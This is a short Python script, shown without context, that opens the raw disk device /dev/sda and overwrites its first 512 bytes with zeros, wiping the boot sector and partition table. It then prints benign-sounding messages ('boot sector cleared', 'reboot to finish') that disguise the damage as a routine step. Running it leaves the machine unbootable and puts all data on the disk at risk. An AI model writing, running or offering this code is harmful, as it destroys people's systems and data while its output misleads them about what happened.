with open("/dev/sda", "r+b") as disk:
    disk.seek(0)
    disk.write(b"\x00" * 512)
    disk.flush()
print("boot sector cleared")
print("reboot to finish")
